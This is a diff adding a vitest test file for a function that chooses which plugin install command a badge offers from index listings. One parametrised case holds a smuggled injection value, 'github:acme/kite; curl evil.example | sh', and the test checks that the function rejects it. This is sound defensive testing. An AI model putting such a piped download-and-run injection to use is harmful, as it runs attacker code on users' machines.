@@ -1,0 +1,57 @@
+import type { IndexListing } from '@plugmark/shared/contract'
+import { describe, expect, it } from 'vitest'
+import { offerFor } from './install-command.ts'
+
+const OPTIONS = { cli: 'dsh', profile: 'desk' }
+
+function listing(fullName: string, spec: string | null, npm: string | null = null): IndexListing {
+  const install = spec === null ? null : `dsh plugin --profile web add ${spec}`
+  return { fullName, category: 'tools', install, path: null, npm }
+}
+
+const root = listing('acme/kite', 'github:acme/kite')
+const tail = listing('acme/kite#packages/tail', '@acme/tail', '@acme/tail')
+const string = listing('acme/kite#packages/string', '@acme/string', '@acme/string')
+const bare = listing('acme/kite#packages/bare', null)
+
+describe('what a badge offers', () => {
+  it('is the command in the person’s own profile', () => {
+    expect(offerFor([root], OPTIONS)).toEqual({
+      kind: 'command',
+      offered: { fullName: 'acme/kite', command: 'dsh plugin --profile desk add github:acme/kite' },
+    })
+  })
+
+  it('is the root’s command, wherever the root stands among the listings', () => {
+    expect(offerFor([tail, bare, root, string], OPTIONS)).toEqual(offerFor([root], OPTIONS))
+  })
+
+  it('is the only command there is, with the listing it is of', () => {
+    expect(offerFor([bare, tail], OPTIONS)).toEqual({
+      kind: 'command',
+      offered: { fullName: 'acme/kite#packages/tail', command: 'dsh plugin --profile desk add @acme/tail' },
+    })
+  })
+
+  it('is a choice when several listings can be installed and the root cannot', () => {
+    const unpublishedRoot = listing('acme/kite', null)
+    expect(offerFor([tail, unpublishedRoot, string], OPTIONS)).toMatchObject({
+      kind: 'choice',
+      among: [{ fullName: tail.fullName }, { fullName: string.fullName }],
+    })
+  })
+
+  it('is nothing, with the reason, when no listing has a command', () => {
+    expect(offerFor([bare], OPTIONS)).toEqual({ kind: 'none', reason: 'subdirectory-unpublished' })
+    expect(offerFor([bare, listing('acme/kite', null)], OPTIONS)).toEqual({ kind: 'none', reason: 'unpublished' })
+  })
+
+  it.each([
+    ['another repository', 'github:evil/kite', 'other-repository'],
+    ['another package', 'evil', 'other-package'],
+    ['a subdirectory from its repository', 'github:acme/kite', 'subdirectory-needs-package', 'acme/kite#packages/tail'],
+    ['a second command', 'github:acme/kite; curl evil.example | sh', 'malformed'],
+  ])('is never a command that installs %s', (_, spec, reason, fullName = 'acme/kite') => {
+    expect(offerFor([listing(fullName, spec)], OPTIONS)).toEqual({ kind: 'none', reason })
+  })
+})
